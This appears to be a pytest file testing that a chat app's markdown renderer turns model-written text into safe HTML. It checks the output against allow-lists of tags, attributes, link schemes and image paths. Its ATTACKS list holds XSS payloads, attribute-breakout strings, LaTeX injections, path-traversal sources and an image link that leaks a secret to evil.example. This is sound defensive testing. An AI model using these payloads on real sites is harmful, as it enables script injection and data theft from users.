"""Nothing that a model writes runs, loads or leaves on its own, and nothing that it writes can pass for ours."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apps.chat import markdown
from apps.chat.blocks import Rendering

TAGS = set(
    "a blockquote br code del div em figcaption figure h3 h4 h5 h6 hr img input li ol p pre span strong table tbody td "
    "th thead tr ul math menclose mfrac mi mmultiscripts mn mo mover mpadded mphantom mroot mrow mspace msqrt mstyle "
    "msub msubsup msup mtable mtd mtext mtr munder munderover".split()
)
ATTRIBUTES = set(
    "accent accentunder align alt aria-label checked class columnalign columnlines columnspacing data-language depth "
    "disabled display displaystyle fence form height href largeop linethickness lspace mathcolor mathvariant maxsize "
    "minsize movablelimits rel role rowspacing rspace scriptlevel separator src start stretchy tabindex target title "
    "type width".split()
)
CLASSES = {"code", "table", *"c cp k kt na nb nc no nd nf nt nv s se m gd gi gh gp go ge gs".split()}

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<span class="k" data-math-style="inline">x</span>',
    '<figure class="code"><pre><code>x</code></pre></figure>',
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&colon;alert(1))",
    "[a](data:text/html,x)",
    "[a](vbscript:x)",
    "[a](/admin/logout/)",
    "[a](//evil.example)",
    "<javascript:alert(1)>",
    "![](/admin/logout/)",
    "![](/gallery/../admin/logout/)",
    "![](/gallery/%2e%2e/admin/)",
    "![x](https://evil.example/?q=secret)",
    "![x](//evil.example/a.png)",
    "![a](javascript:alert(1))",
    '![a" onerror="alert(1)](/gallery/a.png "t" )',
    '[a](https://e.org "x\\" onclick=\\"alert(1)")',
    '```"><script>alert(1)</script>\nx\n```',
    '```py"onload="x\nx\n```',
    "$\\text{<script>alert(1)</script>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{position:fixed}{x}$",
    "$\\class{code}{x}$",
    '$\\color{red" onload="alert(1)}{x}$',
    '$\\hspace{1em" onload="alert(1)}x$',
    "$&lt;script&gt;$",
    "```math\n\\text{</math><script>alert(1)</script>}\n```",
    "| a |\n|---|\n| <script>x</script> |",
    "[a]: javascript:alert(1)\n\n[a]",
    "<https://e.org/\"onmouseover='x'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- --><script>x</script>",
    "[^1]\n\n[^1]: <b>note</b>",
]


class Inspector(HTMLParser):
    """Fails on every element and attribute that is not on the short lists of what an answer may contain."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES, (tag, name)
            self.attribute(tag, name, value or "")

    def attribute(self, tag: str, name: str, value: str) -> None:
        if name == "href":
            assert tag == "a"
            assert re.match(r"(https?://|mailto:)", value, re.IGNORECASE), value
        if name == "src":
            assert tag == "img"
            assert re.fullmatch(r"/gallery/[\w-]+(\.[\w-]+)*", value), value
        if name == "class":
            assert value in CLASSES, value

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


def inspect(html: str) -> None:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_only_text(attack: str) -> None:
    inspect(markdown.render(attack))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_only_text_inside_of_other_blocks(attack: str) -> None:
    inspect(markdown.render(f"- {attack}\n\n> {attack}\n\n**{attack}** [x {attack}](https://e.org) ![{attack}](/b)"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_only_text_while_it_is_being_written(attack: str) -> None:
    rendering = Rendering()
    for letter in attack:
        rendering.feed(letter)
        inspect("".join(rendering.blocks))


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([*ATTACKS, *'<>"&\\`$[]()!|\n ']), max_size=12).map("".join))
def test_attacks_put_together_are_only_text(text: str) -> None:
    inspect(markdown.render(text))


def test_images_of_ours_are_shown() -> None:
    assert '<img src="/gallery/a-1_b.png" alt="A cat">' in markdown.render("![A cat](/gallery/a-1_b.png)")


def test_images_of_others_become_links_with_their_words() -> None:
    html = markdown.render("![A cat](https://example.org/cat.png)")
    assert "<img" not in html
    assert 'href="https://example.org/cat.png">A cat</a>' in html


def test_images_of_others_within_links_leave_only_their_words() -> None:
    html = markdown.render("[![A cat](https://example.org/cat.png)](https://example.org/)")
    assert html.count("<a ") == 1
    assert 'href="https://example.org/">A cat</a>' in html


def test_places_that_we_fill_cannot_be_forged() -> None:
    html = markdown.render(
        '<pre lang="python"><code>def f(): pass</code></pre> <span data-math-style="inline">x</span>'
    )
    assert "figure" not in html
    assert "<math" not in html
    assert "<span" not in html


def test_the_name_of_a_language_is_only_a_word() -> None:
    html = markdown.render("```<b>x</b>\ny\n```")
    assert '<figure class="code" data-language=""><figcaption></figcaption>' in html
